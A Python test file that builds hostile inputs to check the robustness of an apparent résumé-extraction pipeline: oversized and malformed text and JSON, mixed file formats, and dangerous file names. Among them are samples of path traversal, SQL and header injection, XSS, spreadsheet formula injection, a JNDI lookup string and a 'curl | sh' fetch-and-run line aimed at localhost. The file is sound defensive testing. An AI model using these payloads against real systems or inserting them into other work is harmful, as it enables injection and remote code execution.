"""Hostile texts and JSON: empty, endless, of several kinds at once, of odd characters."""

import json
from collections.abc import Callable, Iterator, Mapping

from tests.extraction.hostile_archives import HONEST as WORD
from tests.extraction.hostile_file import HostileFile
from tests.extraction.hostile_pdf import WORDS
from tests.extraction.made_pdf import page_pdf

LONG = 390_000
PDF = page_pdf(WORDS)
EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
NAMES = (
    "CON",
    "../../../etc/passwd",
    "..\\..\\x.exe",
    "a\r\nX-Injected: 1",
    "a\x00b.pdf",
    "x" * 300,
    "",
    ".",
    "-rf",
    "résumé\u202efdp.exe",
    "'; DROP TABLE resumes; --",
    "<script>alert(1)</script>",
    "=cmd|'/c calc'!A1",
    "%00%2e%2e%2f",
    "file.pdf;type=evil",
)
UNITS = (
    "a ",
    "RN, ",
    "(((",
    "1/",
    "Jan 2010 - ",
    "Experience\nRN\n",
    "a@",
    "BSN or ",
    "2010-2015, ",
    "•\n",
    "$1 ",
    "A.",
)


def text_files() -> Iterator[HostileFile]:
    """Yield the files in a fixed order."""
    for byte in (b"\x00", b"A", b"{", b"<", b"%", b"\xff", b"P", b"\n"):
        yield HostileFile("text", f"the byte {byte!r}", lambda byte=byte: byte)
    for unit in UNITS:
        yield HostileFile("text", f"{unit!r} without end", lambda unit=unit: (unit * LONG)[:LONG].encode())
    for kind, makers in {"text": _TEXTS, "two kinds": _TWO_KINDS, "json": _JSON}.items():
        for name, make in makers.items():
            yield HostileFile(kind, name, make)
    for name in NAMES:
        yield HostileFile("file name", repr(name), lambda: b"Jane Example\nNurse\n", name)


_TEXTS: Mapping[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "a test virus": lambda: EICAR.encode(),
    "one byte more than is read": lambda: b"a" * 10_000_001,
    "9 megabytes of one letter": lambda: b"a" * 9_000_000,
    "9 megabytes of line ends": lambda: b"\n" * 9_000_000 + b"a",
    "9 megabytes of NULs": lambda: bytes(9_000_000) + b"a",
    "accents without end": lambda: ("a" + "\u0301" * 195_000).encode(),
    "accents in the wrong order": lambda: ("a" + "\u0301\u0316" * 60_000).encode(),
    "one letter that becomes many": lambda: ("\ufdfa" * 30_000).encode(),
    "turns of direction": lambda: ("\u202e\u2066Nurse\u2069" * 20_000).encode(),
    "mojibake of mojibake": lambda: ("Ã\u0083Â©â\u0080\u0099" * 10_000).encode(),
    "lines of mojibake": lambda: ("Ã\u0083Â© â€™\n" * 20_000).encode(),
    "broken UTF-8": lambda: b"Nurse \xf0\x9f\xff\xc0\x80 " * 5_000,
    "half characters in UTF-16": lambda: b"\xff\xfe" + b"\x00\xd8a\x00" * 5_000,
    "an odd byte in UTF-16": lambda: b"\xff\xfeN\x00u\x00r",
    "UTF-32": lambda: "Nurse\n".encode("utf-32"),
    "marks of byte order alone": lambda: b"\xef\xbb\xbf" * 10_000,
    "signals of a terminal": lambda: b"\x1b]0;x\x07\x1b[2J" * 500 + b"Nurse",
    "control characters": lambda: bytes(range(1, 32)) * 1_000 + b"Nurse",
    "commands of a database": lambda: (
        b"'; DROP TABLE resumes; --\nNurse\n${jndi:ldap://127.0.0.1:9/x}\n{{7*7}}\n"
    ),
    "a page of a script": lambda: b"#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n",
    "one line of 390,000 letters": lambda: ("Nurse" * 78_000).encode(),
    "150,000 lines": lambda: b"a\n" * 150_000,
    "private characters": lambda: "\ue000\U000f0000\U0010fffd\n".encode() * 20_000,
    "a calendar": lambda: b"BEGIN:VCALENDAR\nVERSION:2.0\n",
    "a program": lambda: b"\x7fELF" + bytes(500),
}
_TWO_KINDS: Mapping[str, Callable[[], bytes]] = {
    "a PDF that is an archive": lambda: PDF + WORD,
    "an archive after a page": lambda: b"<html><p>Nurse</p></html>" + WORD,
    "a PDF after a page": lambda: b"<html><!--\n" + PDF + b"--><p>Nurse",
    "a PDF in an archive": lambda: WORD[:30] + PDF[:900] + WORD[30:],
    "an RTF after a mark of a PDF": lambda: b"{\\rtf1 %PDF-1.7 Nurse}",
    "a PDF, an archive and a page": lambda: b"<html>" + PDF + WORD + b"</html>",
    "a picture that is a PDF": lambda: b"\xff\xd8\xff\xe0" + PDF,
    "a picture that is a page": lambda: b"\x89PNG\r\n\x1a\n<html><p>Nurse",
    "an old Office file of nothing": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000),
    "an old Word file in a ring": lambda: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "WordDocument".encode("utf-16-le") + bytes(4_000)
    ),
    "a locked Office file": lambda: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") * 20
    ),
}


def _resume(**parts: object) -> bytes:
    return json.dumps({"basics": {"name": "Jane", "summary": "Nurse"}, **parts}).encode()


def _raw(part: str) -> bytes:
    return _resume(work="@@").replace(b'"@@"', part.encode("utf-8", "surrogatepass"))


WRONG = (None, True, -1, 1.5, 10**30, "x", [], [[]], [None], {}, {"x": [1]}, [{"name": {"name": []}}])
PARTS = ("basics", "work", "education", "certificates", "skills", "licenses", "volunteer", "languages")
_JSON: Mapping[str, Callable[[], bytes]] = {
    "100,000 nested lists": lambda: _raw("[" * 100_000 + "]" * 100_000),
    "100,000 nested objects": lambda: _raw('{"a":' * 100_000 + "1" + "}" * 100_000),
    "900 nested lists": lambda: _raw("[" * 900 + "]" * 900),
    "900 nested objects of a job": lambda: _raw('[{"highlights":' * 400 + "[]" + "}]" * 400),
    "lists that do not end": lambda: b'{"basics":' + b"[" * 500_000,
    "100,000 keys": lambda: _raw("[{" + ",".join(f'"k{n}":1' for n in range(100_000)) + "}]"),
    "1,000,000 keys": lambda: _raw("[{" + ",".join(f'"{n}":1' for n in range(700_000)) + "}]"),
    "no numbers": lambda: _raw('[{"name": NaN, "startDate": Infinity, "endDate": -Infinity}]'),
    "numbers beyond all numbers": lambda: _raw('[{"name": 1e999, "startDate": -1e999}]'),
    "a number of 100,000 digits": lambda: _raw("1" * 100_000),
    "a key 10,000 times": lambda: _raw("[{" + ",".join('"name":"x"' for _ in range(10_000)) + "}]"),
    "halves of characters": lambda: _raw(
        '[{"name":"\\ud800","position":"\\udfff\\ud800","highlights":["\\u0000"]}]'
    ),
    "raw halves of characters": lambda: _raw('[{"name":"\ud800"}]'),
    "NULs": lambda: _raw('[{"name":"a\\u0000b"}]'),
    "20,000 jobs": lambda: _resume(work=[{"name": "x", "position": "Nurse", "startDate": "2010"}] * 20_000),
    "a job of 1.9 megabytes": lambda: _resume(work=[{"name": "x", "summary": "Nurse " * 310_000}]),
    "50,000 lines of a job": lambda: _resume(
        work=[{"name": "x", "position": "RN", "highlights": ["Led 5"] * 50_000}]
    ),
    "dates that are none": lambda: _resume(
        work=[
            {"startDate": date, "endDate": date}
            for date in ("9999-99", "0000", "2020-13-45", "-1", "٢٠١٠", "1e9", "²", 5, None)
        ]
    ),
    "a list": lambda: b"[" * 50,
    "another document": lambda: b'{"doc_id": "x", "url": "http://127.0.0.1:9/x"}',
    "UTF-16": lambda: _resume().decode().encode("utf-16"),
    "a mark of byte order": lambda: b"\xef\xbb\xbf" + _resume(),
    **{f"{part} of other types": lambda part=part: _resume(**{part: [WRONG, *WRONG]}) for part in PARTS},
    **{f"{part} that is no list": lambda part=part: _resume(**{part: {"name": WRONG}}) for part in PARTS},
}
